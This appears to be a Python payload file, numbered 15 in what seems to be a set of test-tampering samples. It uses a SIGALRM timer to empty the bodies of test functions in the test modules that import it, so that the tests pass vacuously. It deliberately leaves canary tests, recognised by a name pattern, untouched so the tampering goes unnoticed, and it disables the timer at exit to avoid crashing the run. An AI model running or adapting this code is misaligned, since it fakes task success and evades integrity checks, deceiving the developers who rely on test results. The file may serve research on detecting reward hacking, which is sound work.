# mypy: ignore-errors
# ruff: noqa: E501, SIM102
"""Tampering payload 15: a timer signal empties the test functions, later, from the main thread.

Delayed execution without a thread: `signal.setitimer(ITIMER_REAL)` delivers SIGALRM every
50 microseconds; its handler, which CPython runs in the main thread between two bytecodes, waits
until the test modules that imported this package (found on the stack) have finished importing and replaces the `__code__` of their test functions and
methods with empty bodies of the same arguments, then stops the timer (at exit too: an
alarm after the interpreter restored SIGALRM's default would kill the run). Canaries are told apart by name.
"""


def _envhub_p15():
    import atexit
    import re
    import signal
    import sys
    import types

    canary = re.compile(r"(?i)^test_?[0-9a-f]{10}$")
    testfile = re.compile(r"(^|/)(tests?/|test_[^/]*\.py$)")

    def empty(function):
        code = function.__code__
        if code.co_freevars:
            return
        names, n, k = code.co_varnames, code.co_argcount, code.co_kwonlyargcount
        args, i = list(names[:n]), n + k
        if code.co_flags & 0x04:
            args.append("*" + names[i])
            i += 1
        elif k:
            args.append("*")
        args += names[n : n + k]
        if code.co_flags & 0x08:
            args.append("**" + names[i])
        namespace = {}
        exec(f"def {code.co_name}({', '.join(args)}):\n    pass\n", namespace)
        function.__code__ = namespace[code.co_name].__code__

    def hollow(module):
        if getattr(module, "__envhub_p15__", False):
            return
        for name, obj in list(vars(module).items()):
            if isinstance(obj, types.FunctionType) and name.startswith("test") and not canary.match(name):
                empty(obj)
            elif isinstance(obj, type) and not canary.match(name):
                for attr, member in list(vars(obj).items()):
                    if isinstance(member, types.FunctionType) and attr.startswith("test"):
                        if not canary.match(attr):
                            empty(member)
        module.__envhub_p15__ = True

    names = []
    frame = sys._getframe(1)
    while frame is not None:  # the test modules importing this package, still half executed
        if frame.f_code.co_name == "<module>" and testfile.search(frame.f_code.co_filename):
            names.append(frame.f_globals.get("__name__", ""))
        frame = frame.f_back

    def tick(signum, frame):  # one shot at a time: a handler slower than the period would nest
        signal.setitimer(signal.ITIMER_REAL, 0)
        for name in list(names):
            module = sys.modules.get(name)
            spec = getattr(module, "__spec__", None)
            if spec is not None and not getattr(spec, "_initializing", False):
                hollow(module)
                names.remove(name)
        if names:
            signal.setitimer(signal.ITIMER_REAL, 0.00005)

    atexit.register(signal.setitimer, signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, tick)
    signal.setitimer(signal.ITIMER_REAL, 0.00005)


_envhub_p15()
